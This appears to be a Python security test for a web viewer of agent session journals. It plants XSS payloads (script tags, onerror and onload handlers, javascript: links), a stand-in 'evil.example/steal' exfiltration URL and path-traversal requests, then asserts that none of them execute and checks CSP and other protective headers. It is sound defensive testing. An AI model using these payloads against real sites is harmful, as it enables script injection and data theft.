"""Everything shown is untrusted: logs, titles, names of files and answers try to act in a real browser, and cannot."""

import json
from collections.abc import Sequence
from pathlib import Path

import httpx2

from hummingbird.adapters.stores.journal import FileJournal
from hummingbird.domain.journal import (
    EndReason,
    Entry,
    ModelAnswered,
    ModelCalled,
    RunEnded,
    RunStarted,
    SessionOpened,
    Source,
    ToolFinished,
    ToolStarted,
    UserSaid,
)
from hummingbird.domain.limits import JOURNAL_FORMAT
from hummingbird.domain.messages import AssistantMessage
from tests.journeys.service.stage import Stage, staged
from tests.web.browser import browser

ATTACK = "</pre></details><script>window.owned=1;alert('owned')</script><img src=x onerror=\"window.owned=1\">"
NAME = "'\"><svg onload=window.owned=1>"
LEAKY = "https://evil.example/steal?x="
SESSION = "hostile1"


def hostile(lines: int = 400) -> Sequence[Entry]:
    order = json.dumps({"workflow": NAME, "project": f"a/{NAME}", "mr_iid": 7, "message": ATTACK})
    answer = (
        f"# {ATTACK}\n\n![x]({LEAKY}1)\n\n[go](javascript:window.owned=1) <{LEAKY}2>\n\n```\n{ATTACK}\n```\n\n{ATTACK}"
    )
    return [
        SessionOpened(session_id=SESSION, system=ATTACK, format=JOURNAL_FORMAT),
        RunStarted(run_id="r", model=NAME),
        UserSaid(text=order, source=Source.ORDER),
        UserSaid(text=ATTACK),
        ModelCalled(call_id="1", model=NAME, messages=1),
        ModelAnswered(call_id="1", model=NAME, message=AssistantMessage(text=ATTACK, reasoning=ATTACK)),
        ToolStarted(call_id="t", name=NAME, arguments=ATTACK),
        ToolFinished(call_id="t", name=NAME, text=f"{ATTACK}\n" * lines),
        RunEnded(run_id="r", reason=EndReason.COMPLETED, text=answer, sentence=ATTACK, answered=True),
    ]


async def planted(stage: Stage, results: int = 1, lines: int = 400) -> None:
    folder = stage.folder / "state" / "sessions" / SESSION
    folder.mkdir(parents=True)
    journal = FileJournal(folder / "journal.jsonl")
    *before, result, end = hostile(lines)
    for entry in (*before, *[result] * results, end):
        journal.append(entry)
    await journal.commit()
    journal.close()


async def test_nothing_that_is_shown_acts_whoever_wrote_it(tmp_path: Path) -> None:
    async with staged("failing-test", tmp_path) as stage, browser() as seen:
        await planted(stage)
        base = f"http://127.0.0.1:{stage.serving.port}"
        session = f"{base}/sessions/{SESSION}"
        pages = [base, session, f"{session}/entries/8", f"{session}/transcript", f"{session}/files"]
        pages += [f"{base}/search?q=owned", f"{base}/search?q={ATTACK}", f"{base}/?project={ATTACK}&text={ATTACK}"]
        pages += [f"{base}/failures?project={ATTACK}", f"{base}/sessions/{NAME}", f"{session}/entries/99"]
        for address in pages:
            await seen.page.goto(address)
            assert await seen.page.evaluate("window.owned") is None, address
        await seen.page.goto(session)
        assert "alert('owned')" in await seen.page.inner_text("main"), "shown as what it is"
        assert await seen.page.locator("main script, main img, main svg[onload], main [onerror]").count() == 0
    assert seen.dialogs == []
    assert seen.outside == []


async def test_every_answer_forbids_what_pages_do_not_need(tmp_path: Path) -> None:
    async with staged("failing-test", tmp_path) as stage:
        await planted(stage)
        async with httpx2.AsyncClient(base_url=f"http://127.0.0.1:{stage.serving.port}") as client:
            session = f"/sessions/{SESSION}"
            for path in ("/", session, f"{session}/transcript", "/static/page.js", "/sessions/none", "/search"):
                answer = await client.get(path)
                policy = answer.headers["content-security-policy"]
                assert "default-src 'none'" in policy
                assert "unsafe" not in policy
                assert answer.headers["x-content-type-options"] == "nosniff"
                assert answer.headers["x-frame-options"] == "DENY"
            assert (await client.get("/", headers={"host": "evil.example"})).status_code == 403
            sent = {"message": "hello", "proof": "0" * 64}
            assert (await client.post(f"{session}/messages", data=sent)).status_code == 403
            assert (await client.post(f"{session}/messages", content=b"x" * 600_000)).status_code == 403
            assert (await client.get("/sessions/..%2f..%2fetc")).status_code == 404
            assert (await client.get("/static/../application.py")).status_code == 404
            assert (await client.put("/")).status_code == 405
